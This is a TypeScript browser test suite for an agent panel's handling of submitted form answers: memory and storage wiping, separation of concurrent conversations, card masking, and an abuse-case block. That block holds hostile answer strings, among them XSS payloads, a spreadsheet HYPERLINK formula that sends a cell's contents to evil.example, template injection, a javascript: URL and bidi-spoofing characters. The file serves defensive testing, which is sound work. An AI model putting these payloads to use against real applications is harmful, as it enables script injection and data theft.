/** What the agent panel keeps, and for how long; and what answers can do to it that were made to do harm. */
import { describe, expect, test } from 'vitest'
import type { DesktopOptions } from './agent-desktop.ts'
import { atDesk, desk, stage } from './desk-of-test.ts'
import { type DesktopScene, newDesktopScene } from './desktop-scene.ts'
import { heapOf } from './heap.ts'
import {
  answerRow,
  newestForm,
  press,
  receiveCardAnswers,
  sendForm,
  shownAnswer,
  waitForStatus,
} from './panel-actions.ts'

const question = (id: string, type: string, more: object = {}) => ({
  ...{ id, type, label: { en: id }, required: false, masked: true, offTheRecord: false },
  ...more,
})
const ownForm = async (scene: DesktopScene, questions: readonly object[]) => {
  const body = { defaultLocale: 'en', title: { en: 'Own form' }, questions }
  const put = await scene.request('PUT', '/v1/templates/own-form', { token: scene.administrator, body })
  expect(put.status).toBe(200)
}

describe('the panel', () => {
  const stored = 'Canary Stored Ofunlikelyname'
  const sealed = 'Canary Sealed Ofunlikelyname'

  const receiveCanaries = async (options: DesktopOptions = {}) => {
    const scene = await newDesktopScene(stage)
    await ownForm(scene, [question('stored', 'text'), question('sealed', 'text', { offTheRecord: true })])
    await atDesk({ ...options, scene })
    await scene.submit(await scene.openLink(await sendForm(desk, 'Own form')), { stored }, { sealed })
    await waitForStatus(desk, 'Submitted. The answers are here, only for you.')
    await press(desk, 'Show the answers')
    await press(desk, 'Open once: sealed')
    await press(desk, 'Reveal: stored')
    await newestForm(desk).getByText(sealed).waitFor()
    await newestForm(desk).getByText(stored).waitFor()
  }

  test('has no answer and no token in its memory after a sign-out', async () => {
    await receiveCanaries()
    const token = desk.token()?.split('.').at(-1) ?? ''
    const before = await heapOf(desk.panel)
    expect([stored, sealed, token].map((secret) => before.includes(secret))).toEqual([true, true, true])

    await desk.scene.post('/v1/session/sign-out', {}, desk.token())
    await desk.panel.getByText('You are signed out.').waitFor()
    const after = await heapOf(desk.panel)
    expect(after.length).toBeGreaterThan(100_000)
    expect([stored, sealed, token].map((secret) => after.includes(secret))).toEqual([false, false, false])
  })

  test('has no answer in its memory once it has heard that the conversation is closed', async () => {
    await receiveCanaries()
    await desk.panel.getByText('Live', { exact: true }).waitFor()
    await desk.scene.close()
    await desk.panel.getByText('The conversation is over.').first().waitFor()
    const after = await heapOf(desk.panel)
    expect(after.length).toBeGreaterThan(100_000)
    expect([stored, sealed].map((secret) => after.includes(secret))).toEqual([false, false])
  })

  test('has no off-the-record answer in its memory once it said that it has forgotten it', async () => {
    await receiveCanaries({ withClock: true })
    await desk.page.clock.fastForward(60_000)
    await newestForm(desk).getByText('Forgotten, as promised.').waitFor()
    expect((await heapOf(desk.panel)).includes(sealed)).toBe(false)
  })

  test('lets go of everything when the page goes away', async () => {
    await receiveCanaries()
    await desk.panel.evaluate(`dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }))`)
    expect(await desk.panel.content()).not.toContain('Canary')
    // What the test itself last looked for in the page is in its own corner of the memory until it looks for something else.
    await desk.panel.getByText('something else').count()
    const after = await heapOf(desk.panel)
    expect([stored, sealed].map((secret) => after.includes(secret))).toEqual([false, false])
  })

  test('keeps nothing in storage of any kind', async () => {
    await receiveCanaries()
    const kept = await desk.panel.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      cookies: document.cookie,
      history: history.state,
      name: window.name,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      address: location.search + location.hash,
    }))
    expect(kept).toEqual({
      ...{ local: 0, session: 0, databases: [], caches: [], cookies: '', history: null, name: '', workers: 0 },
      address: '',
    })
    const state = await desk.context.storageState({ indexedDB: true })
    expect(state).toEqual({ cookies: [], origins: [] })
  })

  test('tells the desktop ids and states, and never a value', async () => {
    await receiveCanaries()
    const told = JSON.stringify(await desk.page.evaluate('told'))
    expect(told).toContain('retrieved')
    expect(told).not.toContain('Ofunlikelyname')
  })
})

describe('three conversations at once', () => {
  test('do not mix, and what is done in one keeps the others from warning', async () => {
    await atDesk({ withClock: true, viewport: { width: 420, height: 1_400 } })
    const { scene } = desk
    const first = { ...desk, panel: desk.panel, conversation: scene.conversationId }
    const others: (typeof first)[] = []
    for (const conversation of [await scene.newConversation(), await scene.newConversation()]) {
      others.push({ ...desk, panel: await desk.openPanel(conversation), conversation })
    }
    const all = [first, ...others]
    for (const each of all) await each.panel.getByRole('button', { name: 'Send', exact: true }).waitFor()

    const names = ['Ada Lovelace', 'Grace Hopper', 'Katherine Johnson']
    const forms = []
    for (const each of all) {
      await each.panel.getByLabel('Bank account details', { exact: true }).check()
      await press(each, 'Send')
      await waitForStatus(each, 'Sent. Not opened yet.')
      const sent = (await each.eventsNamed('sent')).filter(({ conversation }) => conversation === each.conversation)
      expect(sent).toHaveLength(1)
      forms.push(await scene.openLink(String(sent[0]?.link)))
    }
    // All three are pushed to the one agent over three sockets.
    for (const [at, form] of forms.entries()) {
      const answers = { 'account-holder': names[at], iban: 'DE89370400440532013000', 'may-use-account': 'yes' }
      await scene.submit(form, answers)
    }
    for (const [at, each] of all.entries()) {
      await waitForStatus(each, 'Submitted. The answers are here, only for you.')
      expect(await each.panel.locator('.forms > li').count()).toBe(1)
      await press(each, 'Show the answers')
      await press(each, 'Reveal: Account holder')
      expect(await shownAnswer(each, 'Account holder')).toBe(names[at])
      const submitted = (await each.eventsNamed('submitted')).filter(
        ({ conversation }) => conversation === each.conversation,
      )
      expect(submitted.map(({ formId }) => formId)).toEqual([forms[at]?.formId])
    }

    await desk.page.clock.fastForward('10:00')
    const [, , third] = all
    if (third === undefined) throw new Error('there are three')
    const stayed = desk.page.waitForResponse((response) => response.url().endsWith('/v1/session/stay'))
    await press(third, 'Reveal: IBAN')
    await stayed
    await desk.page.clock.fastForward('05:00')
    for (const each of all) {
      expect(await each.panel.locator('.warning').textContent()).toBe('')
      expect(await each.panel.locator('.answer').count()).toBeGreaterThan(0)
    }
  })
})

describe('abuse case 28: answers that were made to do harm', () => {
  const hostile = {
    image: '<img src=x onerror="alert(1)"><iframe src="//evil.example">',
    vector: '<svg onload=alert(1)><script>alert(2)</script></svg>',
    formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    template: `{{constructor.constructor('alert(1)')()}}\${alert(1)}`,
    address: 'javascript:alert(1)',
    turned: 'Ada \u202Eecalevol\u202C \u2066x\u2069',
    unseen: 'pay\u200Bpal\uFEFF\u00AD\u{E0041}',
    long: 'W'.repeat(4_000),
  }
  const shown = {
    ...hostile,
    turned: 'Ada U+202EecalevolU+202C U+2066xU+2069',
    unseen: 'payU+200BpalU+FEFFU+00ADU+E0041',
  }

  test('are shown as the text that they are, with a mark for what nobody would see', async () => {
    const scene = await newDesktopScene(stage)
    const ids = Object.keys(hostile)
    await ownForm(scene, [...ids.map((id) => question(id, 'text')), question('sealed', 'text', { offTheRecord: true })])
    await atDesk({ scene })
    let harmed = 0
    desk.page.on('dialog', (dialog) => {
      harmed += 1
      void dialog.dismiss()
    })
    const elsewhere: string[] = []
    desk.page.on('request', (request) => {
      if (![stage.local.origin, stage.desktopOrigin].includes(new URL(request.url()).origin))
        elsewhere.push(request.url())
    })
    const link = await sendForm(desk, 'Own form')
    await scene.submit(await scene.openLink(link), hostile, { sealed: `${hostile.image}\u202E` })
    await waitForStatus(desk, 'Submitted. The answers are here, only for you.')
    await press(desk, 'Show the answers')
    await press(desk, 'Open once: sealed')
    await expect.poll(() => shownAnswer(desk, 'sealed')).toBe(`${hostile.image}U+202E`)
    for (const id of ids) await press(desk, `Reveal: ${id}`)
    for (const [id, text] of Object.entries(shown)) {
      expect(await shownAnswer(desk, id)).toBe(text)
      const inside = answerRow(desk, id).locator('bdi').locator('*:not(span.unseen)')
      expect(await inside.count()).toBe(0)
    }
    expect(await desk.panel.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    expect({ harmed, elsewhere, complaints: desk.browserErrors }).toEqual({ harmed: 0, elsewhere: [], complaints: [] })
  })

  test('would find no way to become markup: the page takes none from strings and runs nothing inline', async () => {
    await atDesk()
    const refused = await desk.panel.evaluate(async () => {
      const violated = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
      })
      try {
        document.body.innerHTML = '<b>markup</b>'
        return 'taken'
      } catch {
        return await violated
      }
    })
    expect(refused).toBe('require-trusted-types-for')
    expect(stage.policies.takeViolations()).toEqual([expect.stringContaining("requires 'TrustedHTML'")])
  })
})

test('the mask shows no more of a card than its first six and last four digits', async () => {
  await atDesk()
  await receiveCardAnswers(desk)
  await press(desk, 'Show the answers')
  await newestForm(desk).locator('.answer').first().waitFor()
  const text = (await newestForm(desk).textContent()) ?? ''
  expect(text).toContain('411111••••1111')
  expect(text).not.toMatch(/\d{7}/)
})
